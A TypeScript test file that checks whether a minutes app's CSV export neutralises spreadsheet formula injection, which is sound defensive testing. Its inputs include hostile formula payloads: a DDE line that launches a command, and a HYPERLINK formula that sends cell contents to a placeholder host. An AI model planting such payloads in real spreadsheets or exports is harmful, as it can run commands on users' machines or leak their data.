/** X06: what people may write into a table, over the whole way: by raw socket, through the gate, to the file of a reader. */
import { afterAll, beforeAll, expect, test } from "vitest";
import { addGroup, addItem, setItem } from "../../document/edit/items.ts";
import { renameSection } from "../../document/edit/sections.ts";
import { setLanguage, setTitle } from "../../document/edit/title.ts";
import { LANGUAGES, type ItemsSection, type Minutes } from "../../minutes/value.ts";
import { cellsOf, recordsOf, runs } from "../minutes/csv-reading.ts";
import { ask, bearer } from "../support/asking.ts";
import { LiveClient } from "../support/clients.ts";
import { startWorkshop, TestServer } from "../support/server.ts";
import { PAYLOADS } from "./payloads.ts";

const LIST = "pistes";
const AT = "2026-01-01T00:00:00.000Z";

let server: TestServer;
beforeAll(async () => void (server = await new TestServer().start()));
afterAll(() => server?.remove());

const QUOTES = ['"', '""', '"=1+1"', "'", "''", ";", ",", '";"', '","', "\r\n=1", "a\tb", "|", "%0A=1", "sep=,"];
const FORMULAS = [
  ...["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "−"].flatMap((sign) => [
    `${sign}1+1`,
    `${sign}cmd|' /C calc'!A0`,
    ` ${sign}HYPERLINK("https://canary.invalid/?"&A1;"ici")`,
    `\u200B${sign}SUM(1;1)`,
    `'${sign}1`,
    `a;"${sign}1";b,${sign}2\n${sign}3\r\n${sign}4`,
  ]),
  ...QUOTES,
];
const WORDS = [...FORMULAS, ...PAYLOADS.map((payload) => payload.replaceAll("\0", ""))];

/** Each of them in turn. */
const turns = (): (() => string) => {
  let next = 0;
  return () => WORDS[next++ % WORDS.length]!;
};

test.each(LANGUAGES)("X06 M38 hostile words in every cell come back as they were written (%s)", async (language) => {
  const { id, links } = await startWorkshop(server.url, "forum-ouvert");
  const api = `/api/workshops/${id}`;
  const headers = bearer(links.write);
  const writer = new LiveClient({ url: server.live }, id, links.write);
  await writer.saved();
  const { doc } = writer;
  const word = turns();
  doc.transact(() => {
    setLanguage(doc, language);
    setTitle(doc, word());
    renameSection(doc, LIST, FORMULAS[2]!);
    const groups = FORMULAS.slice(0, 6).map((text) => addGroup(doc, LIST, { text }));
    for (const [index, text] of WORDS.entries()) {
      const group = groups[index % 8];
      const item = addItem(doc, LIST, { text, author: word(), at: AT, ...(group === undefined ? {} : { group }) });
      for (const key of ["owner", "due", "dictated"] as const) setItem(doc, LIST, item, key, word());
    }
  });
  await writer.saved();
  writer.destroy();
  // And as a program sends it.
  const body = { section: LIST, text: "=1+1", author: "@nadia" };
  expect((await ask(server.url, `${api}/items`, { method: "POST", headers, body })).status).toBe(201);

  const value = JSON.parse((await ask(server.url, api, { headers })).body) as Minutes;
  const list = value.sections.find((section): section is ItemsSection => section.id === LIST)!;
  const headings = new Map(list.groups.map((group) => [group.id, `${group.letter}) ${group.text}`]));
  const written = list.items.filter(({ text }) => text.trim() !== "");
  expect(written.length).toBeGreaterThan(150);
  let count = 0;
  for (const path of [api, `/r/${links.read}`]) {
    const file = (await ask(server.url, `${path}/minutes.csv`, { headers })).body;
    const cells = cellsOf(file).flat();
    count += cells.length;
    expect(cells.filter((cell) => typeof cell === "string" && runs(cell))).toEqual([]);
    const records = new Map(recordsOf(file).map((record) => [Object.values(record)[1], Object.values(record)]));
    expect(records.size).toBe(written.length);
    for (const { number, group = "", text, owner = "", due = "", author = "", dictatedBy = "" } of written) {
      const [section, , heading, words, , , who, when, , , , , by, said, , title] = records.get(number) ?? [];
      expect({ section, heading, words, who, when, by, said, title }).toEqual({
        section: list.heading,
        heading: headings.get(group) ?? "",
        words: text,
        who: owner,
        when: due,
        by: author,
        said: dictatedBy,
        title: value.title,
      });
    }
  }
  process.stdout.write(`X06 ${WORDS.length} words over the wire, ${count} cells: formulas 0, read back otherwise 0\n`);
});
